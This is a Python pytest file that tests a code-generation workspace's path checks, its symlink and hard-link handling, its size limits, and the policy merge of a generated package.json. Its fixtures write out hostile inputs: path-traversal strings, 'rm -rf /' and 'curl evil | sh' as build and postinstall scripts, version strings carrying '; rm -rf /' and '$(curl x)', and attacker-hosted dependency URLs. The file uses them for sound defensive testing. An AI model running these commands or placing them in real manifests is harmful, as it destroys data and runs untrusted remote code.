"""Generated paths cannot escape the workspace; package.json goes through the policy."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from server.pipeline.toolchain import valid_package_name, valid_version_range
from server.pipeline.workspace import (
    PackagePolicy,
    PathRejected,
    Workspace,
    WorkspaceLimits,
    check_path,
)

POLICY = PackagePolicy(
    name="@acme/plugin-time",
    version="1.0.0",
    dependencies={"@elizaos/core": "1.7.2", "zod": "4.6.7"},
    dev_dependencies={"typescript": "5.9.3", "vitest": "4.1.12"},
    scripts={"build": "tsup", "test": "vitest run"},
    base={"description": "Tells the time", "main": "dist/index.js"},
)
GOOD = "export const x = 1;\n"


@pytest.fixture
async def workspace(tmp_path: Path) -> Workspace:
    ws = Workspace(tmp_path / "ws", policy=POLICY, limits=WorkspaceLimits(max_files=20))
    await ws.create()
    return ws


def files_under(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*")}


HOSTILE = [
    ("../x.ts", "'..' segment"),
    ("/etc/passwd", "absolute"),
    ("src/../../x.ts", "'..' segment"),
    ("src\\..\\x.ts", "backslash"),
    ("src/a\x00.ts", "NUL"),
    ("src/a\nb.ts", "control"),
    ("C:/x.ts", "absolute"),
    ("src//x.ts", "empty"),
    ("src/./x.ts", "'.'"),
    ("", "empty path"),
    ("src/x.js", "extension"),
    ("src/run.sh", "extension"),
    ("node_modules/x.js", "outside the allowed folders"),
    ("node_modules/vitest/index.ts", "outside the allowed folders"),
    (".git/config", "hidden"),
    (".npmrc", "hidden"),
    ("src/.env.ts", "hidden"),
    ("dist/index.ts", "outside the allowed folders"),
    ("src/biome.json", "nested tool configuration"),
    ("src/" + "a" * 300 + ".ts", "longer than"),
    ("src/a/b/c/d/e/f/g/h/i.ts", "deeper than"),
    ("Makefile", "not an allowed top-level file"),
]


@pytest.mark.parametrize(("path", "why"), HOSTILE, ids=[repr(p)[:40] for p, _ in HOSTILE])
async def test_hostile_paths_are_rejected(workspace: Workspace, path: str, why: str) -> None:
    outside_before = files_under(workspace.root.parent)
    report = await workspace.write_files({path: GOOD, "src/ok.ts": GOOD})
    assert report.written == ("src/ok.ts",)
    (rejected,) = report.rejected
    assert rejected.path == path
    assert why in rejected.reason
    assert files_under(workspace.root.parent) == outside_before | {"ws/src", "ws/src/ok.ts"}


async def test_symlinked_directory_component_is_refused(
    workspace: Workspace, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (workspace.root / "src").mkdir()
    (workspace.root / "src" / "evil").symlink_to(outside)
    report = await workspace.write_files({"src/evil/x.ts": GOOD, "src/evil/deep/y.ts": GOOD})
    assert report.written == ()
    assert {r.reason for r in report.rejected} == {"'evil' is a symlink"}
    assert list(outside.iterdir()) == []


async def test_symlinked_file_is_refused_and_its_target_untouched(
    workspace: Workspace, tmp_path: Path
) -> None:
    target = tmp_path / "secret.ts"
    target.write_text("original")
    (workspace.root / "src").mkdir()
    (workspace.root / "src" / "link.ts").symlink_to(target)
    report = await workspace.write_files({"src/link.ts": GOOD})
    assert [r.reason for r in report.rejected] == ["exists and is not a regular file"]
    assert target.read_text() == "original"


async def test_symlinked_workspace_root_component(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    ws = Workspace(tmp_path / "ws")
    await ws.create()
    (ws.root / "src").symlink_to(outside, target_is_directory=True)
    report = await ws.write_files({"src/index.ts": GOOD})
    assert [r.reason for r in report.rejected] == ["'src' is a symlink"]
    assert list(outside.iterdir()) == []


async def test_hard_linked_file_is_replaced_not_written_through(
    workspace: Workspace, tmp_path: Path
) -> None:
    target = tmp_path / "shared.ts"
    target.write_text("original")
    (workspace.root / "src").mkdir()
    os.link(target, workspace.root / "src" / "shared.ts")
    report = await workspace.write_files({"src/shared.ts": GOOD})
    assert report.written == ("src/shared.ts",)
    assert target.read_text() == "original"
    assert (workspace.root / "src" / "shared.ts").read_text() == GOOD


async def test_oversize_content_is_rejected(workspace: Workspace) -> None:
    big = "x" * (workspace.limits.max_file_bytes + 1)
    report = await workspace.write_files({"src/big.ts": big, "src/ok.ts": GOOD})
    assert report.written == ("src/ok.ts",)
    assert "larger than" in report.rejected[0].reason
    assert not (workspace.root / "src" / "big.ts").exists()


async def test_total_size_limit(tmp_path: Path) -> None:
    ws = Workspace(tmp_path / "ws", limits=WorkspaceLimits(max_file_bytes=100, max_total_bytes=250))
    await ws.create()
    files = {f"src/f{i}.ts": "x" * 100 for i in range(3)}
    report = await ws.write_files(files)
    assert report.written == ("src/f0.ts", "src/f1.ts")
    assert [r.path for r in report.rejected] == ["src/f2.ts"]


async def test_too_many_files(workspace: Workspace) -> None:
    files = {f"src/f{i:02}.ts": GOOD for i in range(25)}
    report = await workspace.write_files(files)
    assert len(report.written) == 20
    assert len(report.rejected) == 5
    assert all("more than 20 files" in r.reason for r in report.rejected)
    # Rewriting existing files does not count twice.
    again = await workspace.write_files({"src/f00.ts": "export const y = 2;\n"})
    assert again.written == ("src/f00.ts",) and again.rejected == ()


async def test_package_json_is_merged_by_policy(workspace: Workspace) -> None:
    generated = {
        "name": "evil-name",
        "version": "9.9.9",
        "description": "A clock",
        "dependencies": {"@elizaos/core": "^1.0.0", "date-fns": "^4.1.0", "bad": "git+ssh://x"},
        "devDependencies": {"typescript": "5.0.0", "vitest": "4.1.12"},
        "scripts": {"build": "rm -rf /", "postinstall": "curl evil | sh", "start": "node ."},
        "peerDependencies": {"@elizaos/core": "^1.7.0", "x": "https://evil.example/x.tgz"},
        "overrides": {"zod": "git+ssh://evil/zod.git"},
    }
    report = await workspace.write_files({"package.json": json.dumps(generated)})
    assert report.written == ("package.json",) and report.rejected == ()
    merged = json.loads((workspace.root / "package.json").read_text())
    assert merged["name"] == "@acme/plugin-time"
    assert merged["version"] == "1.0.0"
    assert merged["type"] == "module"
    assert merged["description"] == "A clock"
    assert merged["main"] == "dist/index.js"
    assert merged["dependencies"] == {
        "@elizaos/core": "1.7.2",
        "date-fns": "^4.1.0",
        "zod": "4.6.7",
    }
    assert merged["devDependencies"] == {"typescript": "5.9.3", "vitest": "4.1.12"}
    assert merged["scripts"] == {"build": "tsup", "test": "vitest run", "start": "node ."}
    assert merged["peerDependencies"] == {"@elizaos/core": "^1.7.0"}
    assert "overrides" not in merged
    notes = "\n".join(report.notes)
    for expected in (
        "name stays '@acme/plugin-time'",
        "typescript stays pinned at 5.9.3",
        "@elizaos/core stays pinned at 1.7.2",
        "dropped lifecycle script 'postinstall'",
        "dropped invalid dependencies entry bad@git+ssh://x",
        "date-fns is not installed",
        "script 'build' stays 'tsup'",
        "dropped invalid peerDependencies entry x@https://evil.example/x.tgz",
        "dropped 'overrides'",
    ):
        assert expected in notes


async def test_package_json_must_be_a_json_object(workspace: Workspace) -> None:
    report = await workspace.write_files({"package.json": "[1, 2]", "README.md": "# x\n"})
    assert report.written == ("README.md",)
    assert "JSON object" in report.rejected[0].reason
    report = await workspace.write_files({"package.json": "{not json"})
    assert "invalid JSON" in report.rejected[0].reason


async def test_deletions_are_checked_too(workspace: Workspace, tmp_path: Path) -> None:
    (tmp_path / "victim.ts").write_text("keep me")
    await workspace.write_files({"src/a.ts": GOOD, "package.json": "{}"})
    report = await workspace.write_files(
        {}, deleted=["src/a.ts", "../victim.ts", "package.json", "src/missing.ts"]
    )
    assert report.deleted == ("src/a.ts",)
    assert {r.path for r in report.rejected} == {"../victim.ts", "package.json"}
    assert (tmp_path / "victim.ts").read_text() == "keep me"


async def test_read_sources_skips_heavy_and_linked_files(
    workspace: Workspace, tmp_path: Path
) -> None:
    await workspace.write_files(
        {"src/index.ts": GOOD, "README.md": "# x\n", ".gitignore": "dist\n"}
    )
    root = workspace.root
    for heavy in ("node_modules/pkg/index.js", "dist/index.js", ".auton8n/report.json"):
        (root / heavy).parent.mkdir(parents=True, exist_ok=True)
        (root / heavy).write_text("x")
    (tmp_path / "outside.ts").write_text("secret")
    (root / "src" / "linked.ts").symlink_to(tmp_path / "outside.ts")
    (root / "src" / "tool.js").write_text("x")
    assert await workspace.read_sources() == {
        ".gitignore": "dist\n",
        "README.md": "# x\n",
        "src/index.ts": GOOD,
    }
    await workspace.remove_heavy()
    assert sorted(os.listdir(root)) == [".gitignore", "README.md", "src"]
    await workspace.remove()
    assert not root.exists()


async def test_create_replaces_a_leftover(tmp_path: Path) -> None:
    ws = Workspace(tmp_path / "ws")
    await ws.create()
    (ws.root / "stale.txt").write_text("x")
    await ws.create()
    assert list(ws.root.iterdir()) == []


def test_check_path_accepts_normal_paths() -> None:
    limits = WorkspaceLimits()
    for path in (
        "src/index.ts",
        "src/__tests__/actions/getTime.test.ts",
        "src/data/table.json",
        "README.md",
        "tsconfig.build.json",
        "vitest.config.ts",
        ".gitignore",
    ):
        assert check_path(path, limits) == path
    with pytest.raises(PathRejected):
        check_path("src", limits)


@pytest.mark.parametrize(
    "name", ["zod", "@elizaos/core", "date-fns", "lodash.merge", "@a/b-c_d~e", "x" * 214]
)
def test_valid_package_names(name: str) -> None:
    assert valid_package_name(name)


@pytest.mark.parametrize(
    "name",
    ["", "Zod", "../x", "@scope", "@scope/", "a/b", "-x", ".x", "_x", "a b", "a;rm", "x" * 215],
)
def test_invalid_package_names(name: str) -> None:
    assert not valid_package_name(name)


@pytest.mark.parametrize(
    "spec",
    ["1.2.3", "^1.2.3", "~1.2", ">=1.0.0 <2.0.0", "1.x", "*", "latest", "1 - 2", "^1 || ^2"],
)
def test_valid_version_ranges(spec: str) -> None:
    assert valid_version_range(spec)


@pytest.mark.parametrize(
    "spec",
    [
        "",
        " 1.2.3",
        "git+ssh://git@github.com/x/y.git",
        "https://evil.example/x.tgz",
        "file:../x",
        "npm:lodash@4",
        "workspace:*",
        "github:user/repo",
        "1.2.3; rm -rf /",
        "$(curl x)",
        "next",
        "^1.2.3 ||",
    ],
)
def test_invalid_version_ranges(spec: str) -> None:
    assert not valid_version_range(spec)
